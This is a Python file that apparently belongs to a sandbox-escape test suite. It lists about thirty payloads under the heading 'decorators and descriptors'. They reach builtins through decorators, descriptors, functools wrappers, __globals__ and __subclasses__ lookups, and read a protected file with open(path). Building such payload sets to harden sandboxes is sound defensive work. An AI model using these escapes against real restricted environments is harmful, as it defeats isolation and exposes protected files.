"""Code that runs because something is decorated, looked up or wrapped."""

from __future__ import annotations

from scripts.escapes.payloads import family

PAYLOADS = family(
    "decorators and descriptors",
    r"""
## a decorator runs on a class
@(lambda c: c.__base__)
class X:
    pass
return won
## a decorator that is a lambda
@(lambda f: f.__globals__)
def inner():
    pass
return inner['__builtins__']['open'](path).read()
## a decorator that is exec
@(lambda f: exec('x = 1') or won)
def inner():
    pass
return inner
## a decorator reads the function
@(lambda f: open(path))
def inner():
    return path
return inner.read()
## property's getter
class P:
    @property
    def it(self):
        return open(path).read()
return P().it
## the getter of a property object
p = property(lambda s: open(path).read())
return p.fget(0)
## a descriptor of our making
class D:
    def __get__(self, obj, kind):
        return open(path).read()
class X:
    it = D()
return X().it
## __set_name__
seen = []
class D:
    def __set_name__(self, owner, name):
        seen.append(open(path).read())
class X:
    it = D()
return seen[0]
## a method's function
!function self.clone.__func__ if hasattr(self.clone, '__func__') else (lambda: 0)
## a slot wrapper of a type
f = dict.__dict__['get']
return won if f.__class__.__name__ == 'method_descriptor' else 0
## a classmethod's inner function
f = classmethod(lambda c: open(path).read())
return f.__func__(0)
## staticmethod's inner function
f = staticmethod(lambda: open(path).read())
return f.__func__()
## staticmethod called on what it is not
return staticmethod(open)(path).read()
## cached_property
import functools
class X:
    @functools.cached_property
    def it(self):
        return open(path).read()
return X().it
## wraps leaves the wrapped function
import functools
@functools.wraps(open)
def inner(*a):
    return inner.__wrapped__(*a)
return inner(path).read()
## singledispatch's registry
@functools.singledispatch
def inner(x):
    return inner.__globals__['__builtins__']['open'](path).read()
return inner(1)
## lru_cache's wrapped
@functools.lru_cache
def inner():
    return inner.__wrapped__.__globals__['__builtins__']['open'](path).read()
return inner()
## a partial's function
p = functools.partial(lambda: 0)
!function p.func
## a partial's state
p = functools.partial(int)
p.__setstate__((open, (path,), {}, {}))
return p().read()
## update_wrapper writes attributes
def inner():
    pass
functools.update_wrapper(self, inner)
return won
## __getattribute__ of the type
return type(self).__getattribute__(self, '__class__').__init__.__globals__['__builtins__']['open'](path).read()
## a descriptor's __get__ by hand
f = type(self).__dict__['_install'].__get__(self)
!function f.__func__
## operator.attrgetter
import operator
k = operator.attrgetter('__class__.__base__')(())
!function [c for c in k.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__
## operator.methodcaller
import operator
k = operator.methodcaller('__subclasses__')(object)
!function [c for c in k if c.__name__ == '_wrap_close'][0].__init__
## a reversed key function
class K:
    def __lt__(self, other):
        raise ValueError(open(path).read())
return sorted([K(), K()])
## __class_getitem__
return [c for c in list.__class_getitem__(int).__origin__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['open'](path).read()
## the origin of a generic alias
k = list[int].__origin__.__base__.__subclasses__()
!function [c for c in k if c.__name__ == '_wrap_close'][0].__init__
## the members of a union
k = (int | str).__args__[0].__base__.__subclasses__()
!function [c for c in k if c.__name__ == '_wrap_close'][0].__init__
## annotations evaluated
def inner(x: open(path).read() = 0):
    return inner.__annotations__['x']
import typing
return typing.get_type_hints(inner, {'open': open, 'path': path})['x']
""",
)
